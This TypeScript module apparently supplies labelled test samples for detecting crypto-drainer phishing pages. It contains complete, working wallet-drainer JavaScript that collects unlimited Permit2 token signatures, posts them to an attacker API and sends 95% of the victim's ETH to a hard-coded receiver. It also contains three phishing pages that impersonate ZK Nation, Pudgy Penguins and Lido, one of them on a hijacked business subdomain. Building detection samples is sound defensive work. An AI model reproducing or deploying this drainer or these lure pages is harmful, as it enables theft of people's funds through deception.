import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

// Wallet drainers on cheap domains and a hijacked customer subdomain.
const drainJs = (api: string) => `(function(){var API='${api}';var SPENDER='0x000000000022D473030F116dDEE9F6B43aC78BA3';var RECV='0x7a3b9c1e5f02d84a6b21c9e0f3d1a4b8c6e7f901';
async function go(){if(!window.ethereum){document.getElementById('msg').textContent='No wallet detected. Please open this page in MetaMask or Trust Wallet browser.';return}
var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];var r=await fetch(API+'/assets?a='+acc).then(function(x){return x.json()});
for(var t of r.tokens){var msg={types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitSingle:[{name:'details',type:'PermitDetails'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},primaryType:'PermitSingle',domain:{name:'Permit2',chainId:1,verifyingContract:SPENDER},message:{details:{token:t.address,amount:'1461501637330902918203684832716283019655932542975',expiration:'1893456000',nonce:0},spender:RECV,sigDeadline:'1893456000'}};
var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[acc,JSON.stringify(msg)]});await fetch(API+'/s',{method:'POST',body:JSON.stringify({a:acc,t:t.address,s:sig})})}
var bal=await ethereum.request({method:'eth_getBalance',params:[acc,'latest']});await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:RECV,value:'0x'+(BigInt(bal)*95n/100n).toString(16)}]})}
document.querySelectorAll('.connect').forEach(function(b){b.addEventListener('click',function(){go().catch(function(e){document.getElementById('msg').textContent='Transaction failed, please try again.'})})})})();`;

export const entries: Entry[] = [
{
  id: 'zl-drainer-airdrop-claim-top',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://claim-zk-season2.top/',
  body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>ZK Nation | Season 2 Airdrop Claim</title><meta name="viewport" content="width=device-width,initial-scale=1">
<style>body{margin:0;background:#0b0b1e;color:#fff;font-family:Inter,Arial}.n{display:flex;justify-content:space-between;padding:18px 30px}.hero{text-align:center;padding:80px 20px}.connect{background:linear-gradient(90deg,#6e56cf,#1e6cf2);color:#fff;border:0;padding:14px 40px;border-radius:12px;font-size:17px;cursor:pointer}</style></head>
<body><div class="n"><b>ZK Nation</b><button class="connect">Connect Wallet</button></div><div class="hero"><h1>Season 2 Airdrop is live</h1><p>Eligible wallets can claim their ZK allocation until <b>December 3, 2026</b>. Unclaimed tokens will be returned to the treasury.</p>
<p style="font-size:40px;font-weight:800">12,481,992 ZK</p><p>already claimed by 48,201 wallets</p><button class="connect">Check eligibility &amp; Claim</button><p id="msg" style="color:#f88"></p></div>
<script src="/assets/claim.js"></script></body></html>`,
  routes: {
    'claim-zk-season2.top/assets/claim.js': jsRoute(drainJs('https://claim-zk-season2.top/api')),
    'claim-zk-season2.top/api/assets': jsonRoute({ tokens: [{ address: '0xdAC17F958D2ee523a2206206994597C13D831ec7' }] }),
  },
},
{
  id: 'zl-drainer-nft-mint-xyz',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://pudgy-winter-mint.xyz/mint',
  body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Pudgy Penguins Winter Collection – Free Mint</title>
<style>body{margin:0;background:#bfe3ff;font-family:"Comic Sans MS",Arial;color:#00204a;text-align:center}.card{max-width:420px;margin:60px auto;background:#fff;border-radius:20px;padding:30px}.connect{background:#00204a;color:#fff;border:0;padding:14px 30px;border-radius:30px;font-size:17px}</style></head>
<body><div class="card"><h1>❄ Winter Collection</h1><p>Free mint for Pudgy holders &amp; whitelisted wallets. Only gas fees apply.</p><p><b>2,714 / 5,000</b> minted</p><p>Price: <b>FREE</b> · Max 2 per wallet</p><button class="connect">Connect &amp; Mint</button><p id="msg"></p></div>
<script>${drainJs('https://pudgy-winter-mint.xyz/api')}</script></body></html>`,
  routes: { 'pudgy-winter-mint.xyz/api/assets': jsonRoute({ tokens: [{ address: '0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2' }] }) },
},
{
  id: 'zl-drainer-hijacked-subdomain-staking',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://stake.schreinerei-wolf-allgaeu.de/',
  body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Lido – Liquid Staking Rewards Boost</title>
<style>body{margin:0;background:#f2f5f8;font-family:Manrope,Arial}.n{display:flex;justify-content:space-between;padding:16px 30px;background:#fff}.c{max-width:440px;margin:50px auto;background:#fff;border-radius:20px;padding:30px}.connect{width:100%;background:#00a3ff;color:#fff;border:0;padding:14px;border-radius:10px;font-size:16px}</style></head>
<body><div class="n"><b>lido</b><button class="connect" style="width:auto;padding:8px 18px">Connect wallet</button></div><div class="c"><h2>Stake Ether</h2><p>Limited boost: <b>14.2% APR</b> for the next 48 hours (normally 3.1%).</p><input placeholder="ETH amount" style="width:100%;padding:12px;margin:10px 0;border:1px solid #ddd;border-radius:10px"><button class="connect">Connect wallet</button><p id="msg" style="color:#c00"></p></div>
<script>${drainJs('https://stake.schreinerei-wolf-allgaeu.de/x')}</script></body></html>`,
  routes: { 'stake.schreinerei-wolf-allgaeu.de/x/assets': jsonRoute({ tokens: [{ address: '0xae7ab96520DE3A18E5e111B0EaAb095312D7fE84' }] }) },
},
];
